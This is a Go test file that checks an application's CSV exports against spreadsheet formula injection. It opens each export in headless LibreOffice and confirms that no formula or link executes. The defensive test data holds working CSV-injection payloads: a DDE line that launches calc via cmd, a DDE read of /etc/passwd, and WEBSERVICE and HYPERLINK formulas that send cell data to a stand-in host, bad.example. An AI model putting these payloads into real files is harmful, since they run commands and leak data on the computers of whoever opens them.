package learning_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"socialmediasurgery/surgery"
	"socialmediasurgery/surgery/chart"
	"socialmediasurgery/surgery/desk/learning"
	"socialmediasurgery/surgery/desk/world"
	"socialmediasurgery/surgery/document"
)

// starts are what makes a spreadsheet run a cell, or may hide it; the formulas are
// what is run.
var (
	starts = []string{"", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u2066", "\u202e", "\x00", "fine\n", "fine\r\n ", "'", "\"", ";", ",", "sep=;\n",
		"\u3000", "\u2028", "%0A", "0\u0000"}
	formulas = []string{"=1+1", "+1+1", "-1+1", "@SUM(1;1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1;1)", "|cmd", `=HYPERLINK("https://bad.example";"click")`,
		`=WEBSERVICE("https://bad.example/"&A1)`, `=cmd|' /C calc'!A0`, `=DDE("soffice";"/etc/passwd";"A1")`, `=IMPORTXML(A1;"//x")`, "{=1+1}", "=1+1;=2+2", `=1+1";"=2+2`,
		`=1+1","=2+2`, "=A1\n=A2\r=A3", "=\u200b1+1", "=MSEXCEL|'\\..\\..\\x'!''"}
)

// hostileCells are all of them, and one that is as long as a note.
func hostileCells() (cells []string) {
	for _, start := range starts {
		for _, formula := range formulas {
			cells = append(cells, start+formula)
		}
	}
	return append(cells, strings.Repeat("=1+1\n", 800))
}

// exports are all CSV files that the program writes, with a hostile cell wherever
// somebody's words may stand.
func exports(t *testing.T, cells []string) map[string][]byte {
	t.Helper()
	world.New(t) // the words
	var learnings []learning.Row
	var rows [][]string
	var doc document.Document
	for _, c := range cells {
		l := surgery.Learning{Day: c, Kind: surgery.Worked, About: []string{"recovery"}, Permitted: c,
			Words: surgery.LearningWords{What: c, Whose: c, Tags: []string{c, c}, Link: surgery.WeekLink{Address: c}}}
		learnings = append(learnings, learning.Row{l, c})
		rows = append(rows, []string{c, c, c})
		doc.About = append(doc.About, c)
		doc.Parts = append(doc.Parts, document.Part{Heading: c, Blocks: []document.Block{document.Paragraph{Text: c}, document.Note{Text: c}, document.Sub{Text: c},
			document.List{Items: []document.Item{{Text: c, More: c}}}, document.Quote{Text: c, Whose: c, More: c},
			document.Table{Caption: c, Headers: []string{c, c}, Rows: [][]string{{c, c}}, Notes: []string{c}},
			document.Chart{Chart: chart.Bars{About: chart.About{Title: c, Unit: c}, Rows: []chart.Row{{Label: c, Figure: chart.Said(5, c)}}}}}})
	}
	doc.Title = cells[0]
	return map[string][]byte{"learning": document.Spreadsheet(learning.LearningTable(learnings)), "barometer": document.Spreadsheet(rows), "report": document.Spreadsheet(rows), "story": document.CSV(doc)}
}

var (
	formulaCell = regexp.MustCompile(`table:formula="[^"]*"`)
	linkedCell  = regexp.MustCompile(`xlink:href="[^"]*"|<text:a |<draw:object|table:dde-link|<table:cell-range-source`)
)

// inSpreadsheet opens a CSV file in LibreOffice, and returns what runs in it.
func inSpreadsheet(t *testing.T, raw []byte) (ran []string, cells int) {
	t.Helper()
	folder := t.TempDir()
	file := filepath.Join(folder, "export.csv")
	if err := os.WriteFile(file, raw, 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, end := context.WithTimeout(t.Context(), 4*time.Minute)
	defer end()
	office := exec.CommandContext(ctx, "soffice", "-env:UserInstallation=file://"+filepath.Join(folder, "profile"), "--headless", "--norestore",
		"--convert-to", "fods", "--outdir", folder, file)
	office.Env = append(os.Environ(), "HOME="+folder)
	if said, err := office.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v %s", err, said)
	}
	opened, err := os.ReadFile(filepath.Join(folder, "export.fods"))
	if err != nil {
		t.Fatal(err)
	}
	_, body, _ := bytes.Cut(opened, []byte("<office:body>"))
	for _, found := range append(formulaCell.FindAll(body, -1), linkedCell.FindAll(body, -1)...) {
		ran = append(ran, string(found))
	}
	return ran, bytes.Count(body, []byte("office:value-type="))
}

// Every CSV file the program writes, full of cells that a spreadsheet would run,
// opened in one: nothing in it runs. The same cells as they are do run.
func TestExportsDoNotRunInASpreadsheet(t *testing.T) {
	_, err := exec.LookPath("soffice")
	_, calc := os.Stat("/usr/lib/libreoffice/program/libsclo.so")
	if err != nil || calc != nil {
		if os.Getenv("SPREADSHEET") == "needed" {
			t.Fatal("LibreOffice Calc is missing: on Debian, libreoffice-calc-nogui")
		}
		t.Skip("LibreOffice Calc is missing: on Debian, libreoffice-calc-nogui. make torture installs it")
	}
	if os.Getenv("SPREADSHEET") == "" {
		t.Skip("opens LibreOffice for a minute: make torture does it")
	}
	cells := hostileCells()
	var as bytes.Buffer
	plain := csv.NewWriter(&as)
	for _, c := range cells {
		if err := plain.Write([]string{c, c, c}); err != nil {
			t.Fatal(err)
		}
	}
	plain.Flush()
	ran, _ := inSpreadsheet(t, as.Bytes())
	if len(ran) < len(formulas) {
		t.Fatalf("control: only %d cells run: the search sees nothing", len(ran))
	}
	control, all := len(ran), 0
	for name, raw := range exports(t, cells) {
		ran, n := inSpreadsheet(t, raw)
		if n < len(cells) {
			t.Errorf("%s: only %d cells", name, n)
		}
		for i, r := range ran {
			if i < 10 {
				t.Errorf("%s runs %s", name, r)
			}
		}
		all += n
	}
	t.Logf("PROMISE exports: %d hostile texts in %d cells of the 4 kinds of CSV file, opened in LibreOffice: 0 formulas and links; the same texts as they are: %d", len(cells), all, control)
}
